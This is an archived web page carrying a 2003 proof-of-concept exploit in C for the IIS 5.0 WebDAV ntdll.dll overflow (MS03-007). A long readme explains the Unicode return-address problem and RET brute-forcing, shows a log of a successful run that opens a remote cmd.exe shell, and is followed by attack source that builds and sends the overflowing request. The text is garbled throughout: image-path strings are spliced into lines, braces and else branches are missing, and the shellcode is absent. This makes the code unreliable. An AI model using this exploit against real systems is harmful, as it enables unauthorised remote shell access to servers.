what you don't know can hurt you
Home Files News &[SERVICES_TAB]About Contact Add New


Posted Apr 11, 2003
Authored by Roman Medina-Heigl Hernandez aka RoMaNSoFt | Site rs-labs.com

Proof of concept exploit that will bind a cmd.exe shell on a given port utilizing the vulnerability in ntdll.dll described in ms03-007.

tags | exploit, shell, proof of concept
SHA-256 | 4a6a2dbc4a7b778869518e506ac6cd06819603c1bdf12113faff2f380ee3bcb8


Change Mirror Download
/* IIS 5.0 WebDAV -Proof of concept- */
/* [ Bug: CAN-2003-0109 ] */
/* By Roman Medina-HeiglHernandez */
/* aka RoMaNSoFt <roman@rs-labs.com> */
/* Madrid, 23.Mar.2003 */
/* === */
/* Public release. Version 1. */
/* --- */
/* -= http://www.rs-labs.com/ =- */

/* ===
* --[ READ ME ]
* This exploit is mainly a proof of concept of the recently discovered ntdll.dll bug (which may be
* exploited in many other programs, not necessarily IIS). Practical exploitation is notas easy as
* expected due to difficult RET guessing mixed with possible IIScrashes (which makes RET brute
* forcing a tedious work). The shellcodeincluded here will bind a cmd.exe shell to a given port
* at the victim machine so it could be problematic if that machine is protected behind a firewall.
* For all these reasons, the scope of this code is limited and mainly intended for educational
* purposes. I am not responsible of possible damages created by the use of this exploit code.
* The program sends a HTTP request like this:
* SEARCH /[nop] [ret][ret][ret] ... [ret] [nop][nop][nop][nop][nop] ... [nop] [jmpcode] HTTP/1.1
* {HTTP headers here}
* {HTTP body with webDAV content}
* 0x01 [shellcode]
* IIS converts the first ascii string ([nop]...[jmpcode]) to Unicode using UTF-16 encoding (for
* instance, 0x41 becomes 0x41 0x00, i.e. an extra 0x00 byte is added) and it is the resultant
* Unicode string the one producing the overflow. So at first glance, we cannot include code here
* (more on this later) because it would get corrupted by 0x00 (and other) inserted bytes. Not at
* least using the common method. Another problem that we will have to live with is our RET value
* being padded with null bytes, so if we use 0xabcd in our string, the real RET value (i.e. the
* one EIP will be overwritten with) would be0x00ab00cd. This is an important restriction.
* We have two alternatives:
* 1) The easy one: find any occurrences of our ascii string (i.e. before it gets converted to
* the Unicode form) in process memory. Problem: normally we should find it by debugging the
* vulnerable application and then hardcode the found address (which will be the RET address)
* in our exploit code. This RET address is variable, even for the same version of OS and app
* (I mean, different instances of the same application in the same machine could make the
* guessed RET address invalid at different moments). Now add the restriction of RET value
* padded with null-bytes. Anyway, the main advantage of this method is that we will not have
* to deal with 0x00-padded shellcode.
* 2) The not so-easy one: you could insert an encoded shellcode in such a way that when the app
* expands the ascii string (with the encoded shellcode) to Unicode, a valid shellcode is
* automagically placed into memory. Please, refer to Chris Anley's "venetian exploit" paper
* to read more about this. Dave Aitel also has a good paper about this technique and indeed
* he released code written in Python to encode shellcode (I'm wondering if he will release a
* working tool for that purpose, since the actual code was released as part of a commercial
* product, so it cannot be run without buying the whole product, despite the module itself
* being free!).Problem: it is not so easy as the first method ;-) Advantage: when the over-
* flow happens, some registers may point to our Unicoded string (where our Unicoded-shellcode
* lives in), so we don't need to guess the address where shellcode will be placed and the
* chance of a successful exploitation is greatly improved. For instance, in this case, when
* IIS is overflowed, ECX register points to the Unicode string. The idea is then fill in
* RET value with the fixed address of code like "call %ecx". This code may becontained in
* any previosly-loaded library, for example).
* Well, guess it... yes... I chose the easy method :-) Perhaps I will rewrite the exploit
* using method 2, but I cannot promise that.
* Let's see another problem of the method 1(which I have used). Not all Unicode conversions
* result in a 0x00 byte being added. This is true for ascii characters lower or equal to 0x7f
* (except for some few special characters, I'm not sure). But our shellcode will have bytes
* greater than 0x7f value. So we don't know the exact length of the Unicoded-string containing
* ourshellcode (some ascii chars will expand to more than 2 bytes, I think). As a result,
* sometimes the exploit may not work, because no exact length is matched. For instance, if you
* carry out experiments on this issue, you could see that IIS crashes (overflow occurs) when
* entering a query like SEARCH /AAAA...AAA HTTP/1.1, with 65535 A's. Same happens with 65536.
* But with different values seems NOT to work. So matching the exact length is important here!
* What I have done, it is to include a little "jumpcode" instead of the shellcode itself. The
* jumpcode is placed into the "critical" place and has a fixed length, so our string has always
* a fixed length, too. The "variable" part (the shellcode) is placed at the end of the HTTP
* request (so you can insert your own shellcode and remove the one I'm using here, with no apparent
* problem). To be precise, the end of the request will be: 0x01 [shellcode]. The 0x01 byte marks
* the beginning of the shellcode and it is used by the jumpcode to find the address where shell-
* code begins and jump into it. It is not possible to hardcode a relative jump, because HTTP
* headers have a variable length (think about the "Host:" header and you will understand what
* I'm saying). Well, really, the exploit could have calculated the relative jump itself (other
* problems arise like null-bytes possibly contained in the offset field) but I have prefered to
* use the 0x01 trick. It's my exploit, it's mychoice :-)
* After launching the exploit, several things may happen:
* - the exploit is successful. You can connect to the bound port of victim machine and get a
* shell. Great. Remember that when you issue an "exit" command in the shell prompt, the pro-
* cess will be terminated. This implies that IIS could die.
* - exploit returns a "server not vulnerable" response. Really, the server may not be vulnerable
* or perhaps the SEARCH method used by the exploit is not permitted (the bug can still be
* exploited via GET, probably) or webDAV is disabled at all.
* - exploit did not get success (which is not strange, since it is not easy to guess RET value)
* but the server is vulnerable. IIS will probably not survive: a "net start w3svc" could be
* needed in the victim machine, in order to restart the WWW service.
* The following log shows a correct exploitation:
* roman@goliat:~/iis5webdav> gcc -o rs_iis rs_iis.c
* roman@goliat:~/iis5webdav> ./rs_iis roman
* [*] Resolving hostname ...
* [*] Attacking port 80 at roman (EIP = 0x00480004)...
* [*] Now open another console/shell and try to connect (telnet) to victim port 31337...
* roman@goliat:~/iis5webdav> telnet roman 31337
* Trying
* Connected to roman.
* Escape character is '^]'.
* Microsoft Windows 2000 [Versi¢n 5.00.2195]
* (C) Copyright 1985-2000 Microsoft Corp.
* C:\WINNT\system32>
* I am not going to show logs for the faulty cases. I'm pretty sure you will see them very
* soon :-) But yes, the exploit works, perhaps a little fine-tunning may be required, though.
* So please, do NOT contact me telling that the exploit doesn't work or things likethat. It
* worked for me and it will work for you, if you're not a script-kiddie. Try to attach to the
* IIS process (inetinfo.exe) with the help of a debugger (OllyDbg is my favourite) on the
* victim machine and then launch the exploit against it. Debugger will break when the first
* exception is produced. Now place a breakpoint in 0x00ab00cd (being 0xabcd the not-unicoded
* RET value) and resume execution until you reach that point. Finally, it's time to search
* the memory looking for our shellcode. It is nearly impossible (very low chance) that our
* shellcode is found at any 0x00**00**-form address (needed to bypass the RET restriction
* imposed by Unicode conversion) but no problem: you have a lot of NOPs before the shellcode
* where you could point to. If EIP is overwritten with the address of such a NOP, program flow
* will finish reaching our shellcode. Note also that among the two bytes of RET that we have some
* kind of control, the more important is the first one, i.e. the more significant. In other
* words, interesting RET values to try are: 0x0104, 0x0204, 0x0304, 0x0404, 0x0504, ...,* and so on, till 0xff04. As you may have noticed, the last byte (0x04) is never changed because
* its weight is minimal (256 between aprox. 65000 NOP's is not appreciable).
* I will be happy to receive ideas, comments and feedback about issues related to this exploit
* and the exploited vulnerability itself. Drop me an e-mail. No script-kiddies, please.
* My best wishes,
* --Roman
* === --[ EOT ]-- ===

#include <stdio.h>
#include <errno.h>
#include <string.h>
#include <stdlib.h>
#include <sys/types.h>
#include <sys/socket.h>
#include <netdb.h>
#include <netinet/in.h>

// Change to fit your need
#define RET 0x4804 // EIP = 0x00480004#define LOADLIBRARYA 0x0100107c
#define GETPROCADDRESS 0x01001034

// Don't change this
#define PORT_OFFSET 1052
#define LOADL_OFFSET 798
#define GETPROC_OFFSET 815
#define NOP 0x90
#define MAXBUF 100000

* LoadLibraryA IT Address := 0100107C
* GetProcAddress IT Address := 01001034

unsigned char shellcode[] = // Deepzone shellcode

unsigned char jumpcode[] = "\x8b\xf9\x32\xc0\xfe\xc0\xf2\xae\xff\xe7";
/* mov edi, ecx
* xor al, al
* inc al
* repnz scasb
* jmp edichar body[] = "<?xml version=\"1.0\"?>\r\n<g:searchrequest xmlns:g=\"DAV:\">\r\n" \
"<g:sql>\r\nSelect \"DAV:displayname\" from scope()\r\n</g:sql>\r\n</g:searchrequest>\r\n";

/* Our code starts here */
int main (int argc, char **argv)

unsigned long ret;
unsigned short port;
int tport, bport, s, i, j, r, rt=0;
struct hostent *h;
struct sockaddr_in dst;char buffer[MAXBUF];

if (argc < 2 || argc > 5)
printf("IIS 5.0 WebDAV Exploit by RoMaNSoFt <roman@rs-labs.com>. 23/03/2003\nUsage: %s<target host> [target port] [bind port] [ret]\nE.g 1: %s victim.com\nE.g 2: %s victim.com 80 31337 %#.4x\n", argv[0], argv[0], argv[0], RET);

// Default target port = 80
if (argc > 2)
tport = atoi(argv[2]);
tport = 80;

// Default bind port = 31337
if (argc > 3)
bport = atoi(argv[3]);
bport = 31337;

// Default ret value = RET
if (argc > 4)
ret = strtoul(argv[4], NULL, 16);
ret = RET;

if ( ret > 0xffff || (ret & 0xff) == 0 || (ret & 0xff00) == 0 )
fprintf(stderr, "RET value must be in 0x0000-0xffff range and it may not contain null-bytes\nAborted!\n");

// Shellcode patching
port = htons(bport);
port ^= 0x9999;

if ( ((port & 0xff) == 0) || ((port & 0xff00) == 0) )
fprintf(stderr, "Binding-port contains null-byte. Use another port.\nAborted!\n");

*(unsigned short *)&shellcode[PORT_OFFSET] = port;
*(unsigned long *)&shellcode[LOADL_OFFSET] = LOADLIBRARYA ^ 0x99999999;
*(unsigned long *)&shellcode[GETPROC_OFFSET] = GETPROCADDRESS ^ 0x99999999;
// If the last two items contain any null-bytes, exploit will fail.
// WARNING: this check is not performed here. Be careful and check it for yourself!

//Resolve hostname
printf("[*] Resolving hostname ...\n");
if ((h = gethostbyname(argv[1])) == NULL)
fprintf(stderr, "%s: unknown hostname\n", argv[1]);

bcopy(h->h_addr, &dst.sin_addr, h->h_length);
dst.sin_family = AF_INET;
dst.sin_port = htons(tport);

// Socket creation
if ((s = socket(AF_INET, SOCK_STREAM, 0)) == -1)
perror("Failed to create socket");

// Connection
if (connect(s, (struct sockaddr *)&dst, sizeof(dst)) == -1)
perror("Failed to connect");

// Build malicious string...
printf("[*] Attacking port %i at %s (EIP = %#.4x%.4x)...\n", tport, argv[1], ((ret >> 8) & 0xff), ret & 0xff);

bzero(buffer, MAXBUF);
strcpy(buffer, "SEARCH /");

i = strlen(buffer);
buffer[i] = NOP; // Align for RET overwrite

// Normally, EIP will be overwritten with buffer[8+2087] but I prefer to fill some more bytes ;-)
for (j=i+1; j < i+2150; j+=2)
*(unsigned short *)&buffer[j] = (unsigned short)ret;

// The rest is padded with NOP's. RET address should point to this zone!
for (; j < i+65535-strlen(jumpcode); j++)
buffer[j] = NOP;

// Then we skip the body of the HTTP request
memcpy(&buffer[j], jumpcode, strlen(jumpcode));

strcpy(buffer+strlen(buffer), " HTTP/1.1\r\n");
sprintf(buffer+strlen(buffer), "Host: %s\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n", argv[1], strlen(body) + strlen(shellcode));
strcpy(buffer+strlen(buffer), body);// This byte is used to mark the beginning of the shellcode
memset(buffer+strlen(buffer), 0x01, 1);

// And finally, we land intoour shellcode
memset(buffer+strlen(buffer), NOP, 3);
strcpy(buffer+strlen(buffer), shellcode);

// Send request
if (send(s, buffer, strlen(buffer), 0) != strlen(buffer))
perror("Failed to send");

printf("[*] Now open another console/shell and try to connect (telnet) to victim port %i...\n", bport);

// Receive response
while ( (r=recv(s, &buffer[rt], MAXBUF-1, 0)) > 0)
rt += r;
